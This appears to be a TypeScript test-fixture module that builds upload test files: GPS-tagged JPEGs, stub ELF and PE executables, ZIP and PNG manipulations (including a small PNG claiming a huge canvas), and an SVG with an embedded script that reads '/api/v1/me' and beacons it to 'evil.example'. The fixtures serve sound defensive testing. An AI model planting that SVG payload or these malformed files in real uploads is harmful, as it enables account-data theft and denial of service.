// Hostile and ordinary files for the upload tests, built from their published formats so that
// nothing binary is checked in. Used by tests only.
import { crc32 } from "node:zlib";
import sharp from "sharp";

/** A photo-like JPEG: noise gives entropy-coded data with 0xFF00 stuffing, like a real photo. */
export async function noisyJpeg(width: number, height: number, options: { progressive?: boolean } = {}): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 60, g: 130, b: 90 }, noise: { type: "gaussian", mean: 120, sigma: 40 } } })
    .jpeg({ quality: 85, progressive: options.progressive ?? false })
    .toBuffer();
}

export const GPS_FIXTURE = { latitudeRef: "S", latitude: [15, 25, 0], longitudeRef: "E", longitude: [28, 17, 0], make: "ShoalTestCam" } as const;

/** A JPEG carrying GPS EXIF (IFD3 is libvips' name for the GPS IFD), an XMP packet and a Display P3 ICC profile. */
export async function jpegWithGpsExif(width = 800, height = 600): Promise<Buffer> {
  const g = GPS_FIXTURE;
  const xmp =
    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
    '<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="15,25.0S" exif:GPSLongitude="28,17.0E"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>';
  return sharp(await noisyJpeg(width, height))
    .withIccProfile("p3")
    .withExif({
      IFD0: { Make: g.make, Model: "Field unit" },
      IFD3: {
        GPSLatitudeRef: g.latitudeRef,
        GPSLatitude: g.latitude.map((v) => `${v}/1`).join(" "),
        GPSLongitudeRef: g.longitudeRef,
        GPSLongitude: g.longitude.map((v) => `${v}/1`).join(" "),
      },
    })
    .withXmp(xmp)
    .jpeg({ quality: 85 })
    .toBuffer();
}

/** A JPEG whose EXIF says "rotate 90° clockwise to view" (TIFF/EXIF Orientation = 6). */
export async function jpegWithOrientation6(width: number, height: number): Promise<Buffer> {
  return sharp(await noisyJpeg(width, height)).withMetadata({ orientation: 6 }).jpeg().toBuffer();
}

/**
 * Reads GPS latitude/longitude from a JPEG's APP1 EXIF (Exif 2.32 / CIPA DC-008 §4.6: TIFF header,
 * IFD0 tag 0x8825 points at the GPS IFD; tags 1–4 are LatitudeRef, Latitude, LongitudeRef, Longitude
 * as three RATIONALs of degrees, minutes, seconds). Written from the spec so the check does not rely
 * on the code under test.
 */
export function readJpegGps(jpeg: Uint8Array): { latitude: number; longitude: number } | null {
  const tiff = exifTiff(jpeg);
  if (!tiff) return null;
  const little = tiff[0] === 0x49;
  const view = new DataView(tiff.buffer, tiff.byteOffset, tiff.byteLength);
  const u16 = (o: number) => view.getUint16(o, little);
  const u32 = (o: number) => view.getUint32(o, little);
  const entries = (ifd: number) => Array.from({ length: u16(ifd) }, (_, i) => ifd + 2 + i * 12);
  const gpsPointer = entries(u32(4)).find((e) => u16(e) === 0x8825);
  if (gpsPointer === undefined) return null;
  const gps = entries(u32(gpsPointer + 8));
  const tag = (id: number) => gps.find((e) => u16(e) === id);
  const ref = (id: number) => {
    const e = tag(id);
    return e === undefined ? "" : String.fromCharCode(tiff[e + 8] ?? 0);
  };
  const dms = (id: number) => {
    const e = tag(id);
    if (e === undefined) return Number.NaN;
    const at = u32(e + 8);
    const [d, m, s] = [0, 1, 2].map((i) => u32(at + i * 8) / u32(at + i * 8 + 4));
    return (d ?? 0) + (m ?? 0) / 60 + (s ?? 0) / 3600;
  };
  const lat = dms(2) * (ref(1) === "S" ? -1 : 1);
  const lng = dms(4) * (ref(3) === "W" ? -1 : 1);
  return { latitude: lat, longitude: lng };
}

function exifTiff(jpeg: Uint8Array): Uint8Array | null {
  let pos = 2;
  while (pos + 4 <= jpeg.length && jpeg[pos] === 0xff) {
    const marker = jpeg[pos + 1] ?? 0;
    const len = ((jpeg[pos + 2] ?? 0) << 8) | (jpeg[pos + 3] ?? 0);
    const body = jpeg.subarray(pos + 4, pos + 2 + len);
    if (marker === 0xe1 && Buffer.from(body.subarray(0, 6)).equals(Buffer.from("Exif\0\0", "latin1"))) return body.subarray(6);
    if (marker === 0xda) return null;
    pos += 2 + len;
  }
  return null;
}

/** A minimal ELF64 executable header (System V ABI, "ELF Header"): x86-64, ET_EXEC. */
export function elfExecutable(): Buffer {
  const b = Buffer.alloc(4096);
  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0); // magic, ELFCLASS64, ELFDATA2LSB, EV_CURRENT, System V
  b.writeUInt16LE(2, 16); // e_type ET_EXEC
  b.writeUInt16LE(0x3e, 18); // e_machine EM_X86_64
  b.writeUInt32LE(1, 20); // e_version
  b.writeUInt16LE(64, 52); // e_ehsize
  return b;
}

/** A minimal PE executable start (Microsoft PE format: "MZ" DOS header, e_lfanew at 0x3C, "PE\0\0"). */
export function peExecutable(): Buffer {
  const b = Buffer.alloc(4096);
  b.write("MZ", 0, "latin1");
  b.writeUInt32LE(0x80, 0x3c);
  b.write("PE\0\0", 0x80, "latin1");
  b.writeUInt16LE(0x8664, 0x84); // Machine: x64
  return b;
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><rect width="400" height="300" fill="teal"/>' +
    "<script>fetch('/api/v1/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script></svg>\n",
);

/** A ZIP archive with one stored (uncompressed) file (PKWARE APPNOTE 6.3.10 §4.3: local header, data, central directory, EOCD). */
export function storedZip(name: string, content: Buffer): Buffer {
  const nameBytes = Buffer.from(name, "utf8");
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  central.writeUInt32LE(0, 42); // offset of the local header
  const centralOffset = local.length + nameBytes.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, nameBytes, content, central, nameBytes, end]);
}

/** Inserts a JPEG COM segment (T.81 B.2.4.5: 0xFFFE, 2-byte length including itself) right after SOI. */
export function withJpegComment(jpeg: Buffer, text: string): Buffer {
  const body = Buffer.from(text, "latin1");
  const head = Buffer.from([0xff, 0xfe, (body.length + 2) >> 8, (body.length + 2) & 0xff]);
  return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)]);
}

/** A PNG chunk: length, type, data, CRC-32 over type and data (W3C PNG spec §5.3). */
export function pngChunk(type: string, data: Buffer): Buffer {
  const typeAndData = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const out = Buffer.alloc(8 + data.length + 4);
  out.writeUInt32BE(data.length, 0);
  typeAndData.copy(out, 4);
  out.writeUInt32BE(crc32(typeAndData), 8 + data.length);
  return out;
}

/** Inserts a chunk after IHDR (the signature is 8 bytes, IHDR 25). */
export function withPngChunk(png: Buffer, chunk: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)]);
}

/** Rewrites IHDR's width and height (and its CRC): a small file that claims a huge canvas. */
export function withPngDimensions(png: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(png);
  out.writeUInt32BE(width, 16);
  out.writeUInt32BE(height, 20);
  out.writeUInt32BE(crc32(out.subarray(12, 29)), 29);
  return out;
}

/** The chunk FourCCs of a WebP file and its VP8X feature flags (RFC 9649 §2.7: bit 5 ICC, 3 EXIF, 2 XMP). */
export function webpChunks(webp: Uint8Array): { chunks: string[]; vp8xFlags: number | null } {
  const b = Buffer.from(webp.buffer, webp.byteOffset, webp.byteLength);
  const chunks: string[] = [];
  let flags: number | null = null;
  let pos = 12;
  while (pos + 8 <= b.length) {
    const type = b.toString("latin1", pos, pos + 4);
    const len = b.readUInt32LE(pos + 4);
    chunks.push(type);
    if (type === "VP8X") flags = b[pos + 8] ?? null;
    pos += 8 + len + (len % 2);
  }
  return { chunks, vp8xFlags: flags };
}
